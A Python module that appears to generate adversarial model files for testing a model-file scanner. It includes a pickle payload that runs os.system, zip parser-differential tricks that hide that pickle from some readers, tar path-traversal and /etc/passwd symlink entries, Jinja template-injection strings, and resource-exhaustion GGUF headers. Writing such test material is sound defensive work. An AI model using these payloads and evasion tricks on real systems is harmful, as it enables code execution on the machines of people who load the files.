"""Archives whose records contradict each other, so that one reader sees what another does not.

An attack is a function of the payload's shell command; it gives the file's name and content.
"""

import io
import lzma
import struct
import tarfile
import zipfile
from collections.abc import Callable

Attack = Callable[[str], tuple[str, bytes]]

_EMPTY = b"\x80\x02}."
_TABLE = b"PK\x01\x02"
_END = b"PK\x05\x06"


def evil(command: str) -> bytes:
    return f"cos\nsystem\n(S'{command}'\ntR.".encode()


def zipped(members: dict[str, bytes], squeeze: int = zipfile.ZIP_STORED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", squeeze) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, squeeze)
    return stream.getvalue()


def parts(archive: bytes) -> tuple[bytes, bytes]:
    """Return the members and the table of an archive."""
    table = archive.index(_TABLE)
    return archive[:table], archive[table : archive.rindex(_END)]


def moved(table: bytes, by: int) -> bytes:
    """Return a table of one member whose place is further back."""
    (offset,) = struct.unpack_from("<I", table, 42)
    return table[:42] + struct.pack("<I", offset + by) + table[46:]


def ended(table: bytes, offset: int, comment: bytes = b"") -> bytes:
    return struct.pack("<4s4H2IH", _END, 0, 0, 1, 1, len(table), offset, len(comment)) + comment


def torch_archive(pickled: bytes) -> bytes:
    return zipped({"archive/data.pkl": pickled})


def _table_in_the_comment(command: str) -> tuple[str, bytes]:
    # Python looks for the table right before the end, others where the end says it is
    good, bad = torch_archive(_EMPTY), torch_archive(evil(command))
    (good_body, good_table), (bad_body, bad_table) = parts(good), parts(bad)
    body = good_body + bad_body
    shift = len(good_table) + 22
    hidden = moved(bad_table, len(good_body))
    good_table = moved(good_table, shift)  # makes up for the shift that Python works out
    end = ended(good_table, len(body) + shift, hidden)
    return "model.pt", body + good_table + end


def _table_elsewhere(command: str) -> tuple[str, bytes]:
    good_body, good_table = parts(torch_archive(_EMPTY))
    bad_body, bad_table = parts(torch_archive(evil(command)))
    hidden = moved(bad_table, len(good_body))
    offset = len(good_body) + len(bad_body)
    shift = len(hidden)
    end = ended(good_table, offset)
    return "model.pt", good_body + bad_body + hidden + moved(good_table, -shift % 2**32) + end


def _end_elsewhere(command: str) -> tuple[str, bytes]:
    """Hide a second long end where the locator points, which Python does not follow."""
    good_body, good_table = parts(torch_archive(_EMPTY))
    bad_body, bad_table = parts(torch_archive(evil(command)))
    hidden_table = moved(bad_table, len(good_body))
    at = len(good_body) + len(bad_body)
    hidden_end = _long_end(len(hidden_table), at)
    body = good_body + bad_body + hidden_table + hidden_end
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, at + len(hidden_table), 1)
    last = struct.pack("<4s4H2IH", _END, 0, 0, 0xFFFF, 0xFFFF, 2**32 - 1, 2**32 - 1, 0)
    return "model.pt", (body + good_table + _long_end(len(good_table), len(body)) + locator + last)


def _long_end(length: int, offset: int) -> bytes:
    return struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 1, 1, length, offset)


def _changed(at: int, value: bytes, *, local: bool = True) -> Attack:
    """Change one of a member's two records."""

    def attack(command: str) -> tuple[str, bytes]:
        content = bytearray(zipped({"data.bin": evil(command)}, zipfile.ZIP_DEFLATED))
        start = 0 if local else content.index(_TABLE)
        content[start + at : start + at + len(value)] = value
        return "model.zip", bytes(content)

    return attack


def _hidden_member(command: str) -> tuple[str, bytes]:
    """Leave a member out of the table: readers of streams still see it."""
    body, table = parts(zipped({"a.txt": b"words"}))
    hidden, _ = parts(zipped({"data.pkl": evil(command)}))
    after, other = parts(zipped({"b.txt": b"words"}))
    other = moved(other, len(body) + len(hidden))
    both = table + other
    offset = len(body) + len(hidden) + len(after)
    end = struct.pack("<4s4H2IH", _END, 0, 0, 2, 2, len(both), offset, 0)
    return "model.zip", body + hidden + after + both + end


def _hidden_at_the_end(command: str) -> tuple[str, bytes]:
    body, table = parts(zipped({"a.txt": b"words"}))
    hidden, _ = parts(zipped({"data.pkl": evil(command)}))
    return "model.zip", body + hidden + table + ended(table, len(body) + len(hidden))


def _commented(command: str) -> tuple[str, bytes]:
    body, table = parts(zipped({"a.txt": b"words"}))
    return "model.zip", body + table + ended(table, len(body), evil(command))


def _before_the_start(_: str) -> tuple[str, bytes]:
    content = zipped({"a.txt": b"words"})
    return "model.zip", content[7:-6] + struct.pack("<I", len(content)) + b"\0\0"


def _name_with_a_zero(_: str) -> tuple[str, bytes]:
    return "model.zip", zipped({"weightsX.bin": b"words"}).replace(b"X.bin", b"\0.bin")


def _fewer_members(_: str) -> tuple[str, bytes]:
    content = bytearray(zipped({"a.txt": b"words"}))
    content[-14:-10] = struct.pack("<HH", 7, 7)
    return "model.zip", bytes(content)


def _tar(name: str, kind: bytes = tarfile.REGTYPE, link: str = "", pack: str = "w") -> Attack:
    def attack(command: str) -> tuple[str, bytes]:
        stream = io.BytesIO()
        with tarfile.open(fileobj=stream, mode=pack) as tar:  # type: ignore[call-overload]
            member = tarfile.TarInfo(name)
            member.type, member.linkname = kind, link
            member.size = len(evil(command)) if kind == tarfile.REGTYPE else 0
            tar.addfile(member, io.BytesIO(evil(command)))
        return "model.tar", stream.getvalue()

    return attack


def _in_zip(inner: Attack, member: str) -> Attack:
    return lambda command: ("model.zip", zipped({member: inner(command)[1]}))


def _with_a_program(name: str, content: bytes) -> Attack:
    return lambda _: ("model.zip", zipped({name: content.ljust(600, b"\1")}))


def _keras(command: str) -> tuple[str, bytes]:
    config = b'{"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__"}}}'
    return "model.keras", zipped({
        "config.json": config, "metadata.json": b"{}", "model.weights.h5": b"\x89HDF\r\n\x1a\n",
        "note.txt": command.encode(),
    })  # fmt: skip


def _png(command: str) -> tuple[str, bytes]:
    image = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + bytes(17)
    return "model.png", image + zipped({"data.pkl": evil(command)})


def _twice_packed(command: str) -> tuple[str, bytes]:
    inner = lzma.compress(evil(command))
    return "weights.bin", lzma.compress(lzma.compress(inner, lzma.FORMAT_ALONE))


def _gguf(*pairs: tuple[bytes, bytes], count: int | None = None) -> Attack:
    head = b"GGUF" + struct.pack("<IQQ", 3, 0, len(pairs) if count is None else count)
    body = b"".join(struct.pack("<Q", len(key)) + key + value for key, value in pairs)
    return lambda _: ("model.gguf", head + body)


def _template(text: bytes) -> Attack:
    value = struct.pack("<IQ", 8, len(text)) + text
    return _gguf(
        (b"general.name", struct.pack("<IQ", 8, 1) + b"x"), (b"tokenizer.chat_template", value)
    )


FILES: dict[str, Attack] = {
    "table in the comment": _table_in_the_comment,
    "table elsewhere": _table_elsewhere,
    "end elsewhere": _end_elsewhere,
    "two methods for one member": _changed(8, struct.pack("<H", 0)),
    "two sizes for one member": _changed(18, struct.pack("<I", 3)),
    "two checksums for one member": _changed(14, b"abcd"),
    "encrypted in one record": _changed(6, b"\1"),
    "encrypted in the other": _changed(8, b"\1", local=False),
    "hidden member": _hidden_member,
    "hidden member at the end": _hidden_at_the_end,
    "pickle as a comment": _commented,
    "member before the start": _before_the_start,
    "name with a zero": _name_with_a_zero,
    "fewer members than announced": _fewer_members,
    "member on another disk": _changed(34, b"\1", local=False),
    "tar": _tar("weights.bin"),
    "tar that climbs": _tar("../../weights.bin"),
    "tar with a link out": _tar("weights.bin", tarfile.SYMTYPE, "/etc/passwd"),
    "tar with a hard link out": _tar("weights.bin", tarfile.LNKTYPE, "../../secret"),
    "tar with a device": _tar("weights.bin", tarfile.CHRTYPE),
    "tar in gzip": _tar("data.pkl", pack="w:gz"),
    "tar in bzip2": _tar("data.pkl", pack="w:bz2"),
    "tar in xz": _tar("data.pkl", pack="w:xz"),
    "tar in a zip": _in_zip(_tar("data.pkl"), "notes.txt"),
    "packed tar in a zip": _in_zip(_tar("data.pkl", pack="w:gz"), "weights.bin"),
    "7z in a zip": _with_a_program("weights.bin", b"7z\xbc\xaf\x27\x1c\0\4"),
    "shared library in a zip": _with_a_program("libweights.so", b"\x7fELF\x02\x01\x01"),
    "shared library named txt in a zip": _with_a_program("notes.txt", b"\x7fELF\x02\x01\x01"),
    "Java class in a zip": _with_a_program("Model.class", b"\xca\xfe\xba\xbe\0\0\0\x34"),
    "Python in a zip": lambda _: ("model.whl", zipped({"model/__init__.py": b"import os\n"})),
    "keras with a Lambda": _keras,
    "picture and pickle": _png,
    "packed three times": _twice_packed,
    "gguf: template that climbs": _template(b"{{ x.__class__.__base__.__subclasses__() }}"),
    "gguf: template that climbs by attr": _template(b"{{ x|attr('\\x5f\\x5fclass\\x5f\\x5f') }}"),
    "gguf: endless keys": _gguf(count=1 << 60),
    "gguf: endless text": _gguf((b"a", struct.pack("<IQ", 8, 1 << 60))),
    "gguf: endless table": _gguf((b"a", struct.pack("<IIQ", 9, 4, 1 << 60))),
    "gguf: table of tables": _gguf((b"a", struct.pack("<IIQ", 9, 9, 3))),
    "gguf: unknown value": _gguf((b"a", struct.pack("<I", 99))),
    "gguf: of tomorrow": lambda _: ("model.gguf", b"GGUF" + struct.pack("<IQQ", 9, 0, 0)),
}  # fmt: skip
